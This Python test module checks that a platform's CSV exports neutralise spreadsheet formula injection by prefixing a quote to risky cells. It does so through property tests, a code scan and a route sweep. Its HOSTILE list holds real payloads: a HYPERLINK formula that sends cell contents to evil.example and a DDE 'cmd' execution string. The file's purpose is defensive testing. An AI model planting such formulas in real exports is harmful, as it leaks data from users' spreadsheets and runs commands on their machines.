"""Every CSV the platform writes opens in a spreadsheet as data: no cell starts with a character
that would make Excel, LibreOffice or Google Sheets run it as a formula (``=``, ``+``, ``-``,
``@``, a tab, a carriage return). Stored text keeps such a first character (a member may be
called "-Ann"); only the CSV cell gets a leading ``'`` (issue 15, item 5).

The route sweep runs on SQLite and on PostgreSQL, with the demo's data made hostile.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from core import spreadsheets
from core.editions.tables import Edition
from core.groups.tables import WorkingGroup
from core.members.tables import Member
from core.polls.tables import Poll
from core.recommendations.tables import ArchivedFigures, Bundle, Project, Recommendation
from core.themes.tables import ThemeText
from plugins.demo import BOARD_NUMBER, seed_demo
from tests.conftest import sign_in

ROOT = Path(__file__).resolve().parent.parent
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def runnable(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run (a negative number is just a number)."""
    return [
        cell
        for cell in cells(text)
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]


# -- the shared writer ----------------------------------------------------------------------


@given(st.lists(st.lists(st.one_of(st.text(), st.integers()), max_size=6), max_size=6))
def test_the_shared_writer_never_writes_a_cell_a_spreadsheet_would_run(rows):
    out = io.StringIO()
    spreadsheets.writer(out).writerows(rows)

    assert runnable(out.getvalue()) == []
    # Nothing else changes: a neutralised cell is its value behind one quote.
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read == [[str(spreadsheets.safe_cell(value)) for value in row] for row in rows]


def test_a_neutralised_cell_is_the_value_behind_one_quote_and_numbers_stay_numbers():
    out = io.StringIO()
    spreadsheets.writer(out).writerow([*HOSTILE, "'=x", "Ann", -3, 4.5])

    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["'" + value for value in HOSTILE] + ["'=x", "Ann", "-3", "4.5"]
    assert spreadsheets.safe_cell(spreadsheets.safe_cell("=1")) == "'=1"  # once, not twice


def test_no_module_writes_csv_but_through_the_shared_writer():
    shared = ROOT / "core" / "spreadsheets.py"
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bfrom csv import\b")
    found = [
        f"{path.relative_to(ROOT)}:{n}"
        for folder in ("core", "plugins")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path != shared
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line)
    ]
    assert found == [], "write CSV with core.spreadsheets.writer, which neutralises formulas"


# -- every CSV route, with hostile text wherever a CSV takes words from ----------------------


async def make_hostile() -> None:
    """Give every text a CSV shows a first character a spreadsheet would run."""

    async def each(table: Any, *columns: Any) -> None:
        rows = await table.select(table.id).order_by(table.id)
        for n, row in enumerate(rows):
            await table.update(
                {column: HOSTILE[(n + k) % len(HOSTILE)] for k, column in enumerate(columns)}
            ).where(table.id == row["id"])

    await each(Recommendation, Recommendation.title, Recommendation.text, Recommendation.rationale)
    await each(WorkingGroup, WorkingGroup.locality)
    await each(ThemeText, ThemeText.title)
    await each(Project, Project.title)
    await each(ArchivedFigures, ArchivedFigures.source)
    await each(Member, Member.name)


async def csv_urls() -> dict[str, list[str]]:
    """Each CSV route of the app, as the URLs the demo gives it."""
    polls = await Poll.select(Poll.id).where(Poll.state == "published")
    bundles = await Bundle.select(Bundle.id)
    editions = await Edition.select(Edition.slug)
    return {
        "/polls/{poll_id:int}/ballots.csv": [f"/polls/{p['id']}/ballots.csv" for p in polls],
        "/bundles/{bundle_id:int}/bundle.csv": [f"/bundles/{b['id']}/bundle.csv" for b in bundles],
        "/record.csv": ["/record.csv"],
        "/record/{slug:str}/recommendations.csv": [
            f"/record/{e['slug']}/recommendations.csv" for e in editions
        ],
    }


def csv_routes(app: Any) -> set[str]:
    return {route.path for route in app.routes if route.path.endswith(".csv")}


async def test_no_csv_the_platform_serves_has_a_cell_a_spreadsheet_would_run(client):
    settings = client.app.state.settings
    await seed_demo(settings)
    await make_hostile()
    board = await Member.select(Member.id).where(Member.member_number == BOARD_NUMBER).first()
    await sign_in(client, board["id"])  # the board reads every bundle
    urls = await csv_urls()
    # Every CSV route is checked here: a new one must be added above.
    assert csv_routes(client.app) == set(urls)

    neutralised: dict[str, int] = {}
    for route, found in urls.items():
        assert found, f"the demo gives no URL for {route}"
        for url in found:
            response = await client.get(url)
            assert response.status_code == 200, (url, response.text[:200])
            assert response.headers["content-type"].startswith("text/csv")
            assert runnable(response.text) == [], url
            neutralised[route] = neutralised.get(route, 0) + sum(
                1 for cell in cells(response.text) if cell.startswith(("'=", "'+", "'-", "'@"))
            )
    # The hostile texts reached the files that show words (the ballot list and the record's
    # table show only numbers, codes and the platform's own labels).
    for route in ("/bundles/{bundle_id:int}/bundle.csv", "/record/{slug:str}/recommendations.csv"):
        assert neutralised[route] > 0, route
    # And the stored texts kept their first character.
    stored = await Recommendation.select(Recommendation.title).order_by(Recommendation.id).first()
    assert stored["title"] == HOSTILE[0]
